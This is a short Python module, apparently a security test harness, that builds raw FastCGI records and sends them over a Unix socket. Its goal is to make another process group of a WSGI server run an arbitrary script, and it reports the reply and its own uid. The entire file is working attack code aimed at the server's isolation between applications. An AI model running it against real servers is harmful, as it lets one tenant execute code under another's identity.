"""Tries to make the process group behind a socket run a file: a FastCGI client of its own.

As a module, attack(socket, script) returns what came back; as an application it
does that with ?socket and ?script.
"""

import json
import os
import socket
import struct
from urllib.parse import parse_qs


def record(kind, content, ident=1):
    return struct.pack(">BBHHBB", 1, kind, ident, len(content), 0, 0) + content


def pair(name, value):
    name, value = name.encode("latin-1"), value.encode("latin-1")
    out = b""
    for text in (name, value):
        out += bytes([len(text)]) if len(text) < 128 else struct.pack(">I", len(text) | 0x80000000)
    return out + name + value


def request(script):
    params = {
        "REQUEST_METHOD": "GET", "REQUEST_URI": "/evil", "SCRIPT_NAME": "", "PATH_INFO": "/evil",
        "QUERY_STRING": "", "SERVER_NAME": "localhost", "SERVER_PORT": "80", "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "127.0.0.1", "SCRIPT_FILENAME": script,
        "WSGID_SCRIPT": script, "WSGID_APPLICATION_GROUP": "", "WSGID_CALLABLE": "application",
        "WSGID_REQUEST_ID": "attack", "WSGID_REQUEST_START": "0", "WSGID_QUEUE_START": "0",
        "WSGID_ROUTER_PID": str(os.getpid()), "WSGID_RELOADING": "1",
    }
    content = b"".join(pair(name, value) for name, value in params.items())
    return (record(1, struct.pack(">HB5x", 1, 1)) + record(4, content) + record(4, b"") + record(5, b""))


def attack(path, script):
    """One of "refused to connect: …", "closed: …", or what the application side answered."""
    peer = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    peer.settimeout(30)
    try:
        try:
            peer.connect(path)
        except OSError as error:
            return "refused to connect: %s" % error
        try:
            ask = b"".join(pair(name, "") for name in ("WSGID_PID", "WSGID_THREAD", "WSGID_GENERATION"))
            peer.sendall(record(9, ask, 0) + request(script))
            got = b""
            while b"\x01\x03\x00\x01" not in got:
                part = peer.recv(65536)
                if not part:
                    return "closed: %s" % got.decode("latin-1")
                got += part
        except OSError as error:
            return "closed: %s" % error
        return got.decode("latin-1")
    finally:
        peer.close()


def application(environ, start_response):
    query = parse_qs(environ["QUERY_STRING"])
    answer = {"answer": attack(query["socket"][0], query["script"][0]), "uid": os.getuid()}
    start_response("200 OK", [("Content-Type", "application/json")])
    return [json.dumps(answer).encode("ascii")]
